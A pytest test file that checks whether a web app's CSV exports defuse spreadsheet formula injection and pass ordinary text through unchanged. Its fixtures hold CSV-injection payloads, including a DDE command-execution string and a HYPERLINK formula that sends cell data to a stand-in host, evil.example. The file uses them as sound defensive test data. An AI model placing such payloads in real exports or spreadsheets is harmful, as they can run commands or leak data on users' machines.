"""No cell of any spreadsheet opens as a formula, and ordinary cells come through as they were."""

import csv
import re
from collections.abc import Iterator
from io import StringIO
from typing import Any

import pytest
import sqlalchemy as sa

from app.accounts.models import Person
from app.contributions.models import Contribution, Revision
from app.contributions.services import deciding, drafting, guarding
from app.core.actor import SHIPPED_CONTENT
from app.core.db import session
from app.core.text import safe_cell
from app.directory.kind import INITIATIVE
from app.exchanges.learning.models import LearningNote
from app.library.specifications.kind import SPECIFICATION
from tests.permissions.furnishing import Furnisher
from tests.permissions.site import Site
from tests.permissions.world_people import Builder

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "  +", "＝", "＋", "－", "＠", '"=', "=\t", "\u00a0=", "\u200b=")
FORMULAS = ('cmd|"/c calc"!A0', "1+1", 'HYPERLINK("http://evil.example?x="&A1)', "SUM(1,2)", "IMPORTXML(1)")
HOSTILE = tuple(f"{start}{formula}" for start in STARTS for formula in FORMULAS)
PLAIN = ("A play", "Ages 5–10", "£50 to £100", "Tel 0300 123 4567", "O’Brien & Sons", "a=b", "3 - 4", "x@example.org")
RUNS = re.compile(r"^[\s\u00a0\u200b]*[=+\-@＝＋－＠\t\r\n]")
TEXTS = ("summary", "languages", "access", "cost_note", "contact_organisation", "evidence_citation")


def cells(site: Site, role: str, path: str) -> list[str]:
    answer = site.send(role, "GET", path).response
    assert answer.mimetype == "text/csv"
    assert "attachment" in answer.headers["Content-Disposition"]
    text = answer.get_data(as_text=True).removeprefix("\ufeff")
    return [cell for row in csv.reader(StringIO(text, newline="")) for cell in row]


@pytest.fixture(scope="module")
def hostile(furnisher: Furnisher) -> Iterator[Site]:
    """A copy of the site where every text begins like a formula."""
    with furnisher.copy(furnisher.changed("formulas", fill)) as site:
        yield site


def fill(site: Site) -> None:
    """Begin every text like a formula."""
    builder = Builder(site.database)
    builder.world = site.world
    texts_left = list(HOSTILE)
    number = 0
    while texts_left:
        body: dict[str, Any] = {"type": "drama", "title": texts_left.pop(), "description": "Words."}
        body |= {name: texts_left.pop() if texts_left else "Words." for name in TEXTS}
        number += 1
        with builder.writing():
            revision = drafting.start(SHIPPED_CONTENT, INITIATIVE, body, {}, f"formula-{number}")
            findings = guarding.inspect_body(INITIATIVE.shape, body)
            drafting.submit(SHIPPED_CONTENT, revision, {one.finding.fingerprint: "It is not." for one in findings})
            deciding.publish(SHIPPED_CONTENT, revision, finding_ids=[one.id for one in revision.findings])
    for at in range(0, len(HOSTILE), 3):
        title, summary, population = (*HOSTILE[at : at + 3], "Words.", "Words.")[:3]
        clause = {"id": "aims", "heading": "Aims", "clause_type": "aims", "text": "Words."}
        body = {"form": "specification", "title": title, "summary": summary, "population": population, "clauses": [clause]}
        with builder.writing():
            revision = drafting.start(SHIPPED_CONTENT, SPECIFICATION, body, {}, f"formula-specification-{at}")
            findings = guarding.inspect_body(SPECIFICATION.shape, body)
            drafting.submit(SHIPPED_CONTENT, revision, {one.finding.fingerprint: "It is not." for one in findings})
            deciding.publish(SHIPPED_CONTENT, revision, finding_ids=[one.id for one in revision.findings])
    with builder.writing():  # two sides of an exchange write a learning note: the one that there is gets other words
        note = session().scalars(sa.select(LearningNote)).one()
        live_id = session().get_one(Contribution, note.contribution_id).live_revision_id
        body = session().get_one(Revision, live_id).body | {"title": HOSTILE[0], "summary": HOSTILE[1]}
        session().execute(sa.update(Revision).where(Revision.id == live_id).values(body=body))
    with builder.writing():
        for person, text in zip(session().scalars(sa.select(Person).where(Person.name != "")).all(), HOSTILE, strict=False):
            person.name = text


@pytest.mark.parametrize(
    ("role", "path", "fewest"),
    [
        ("visitor", "/directory/csv", 100),
        ("visitor", "/library/csv", 100),
        ("visitor", "/exchanges/learning/csv", 10),
        ("admin", "/admin/audit.csv", 100),
    ],
)
def test_no_cell_of_a_spreadsheet_begins_as_a_formula_does(hostile: Site, role: str, path: str, fewest: int) -> None:
    found = cells(hostile, role, path)
    assert len(found) > fewest
    assert any("calc" in cell for cell in found), "the hostile texts are in it"
    assert [cell for cell in found if RUNS.match(cell)] == []


def test_every_page_that_answers_with_a_spreadsheet_is_one_of_those_tested(hostile: Site) -> None:
    answers = {}
    for rule in hostile.app.url_map.iter_rules():
        if not rule.arguments and "GET" in (rule.methods or set()):
            answers[rule.rule] = hostile.send("admin", "GET", rule.rule).response.mimetype
    assert {rule for rule, mimetype in answers.items() if "csv" in mimetype} == {
        "/directory/csv",
        "/library/csv",
        "/exchanges/learning/csv",
        "/admin/audit.csv",
    }


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_cell_is_made_plain_text_and_keeps_its_words(text: str) -> None:
    assert not RUNS.match(safe_cell(text))
    assert safe_cell(text).endswith(text)


@pytest.mark.parametrize("text", PLAIN)
def test_an_ordinary_cell_comes_through_as_it_was(text: str) -> None:
    assert safe_cell(text) == text
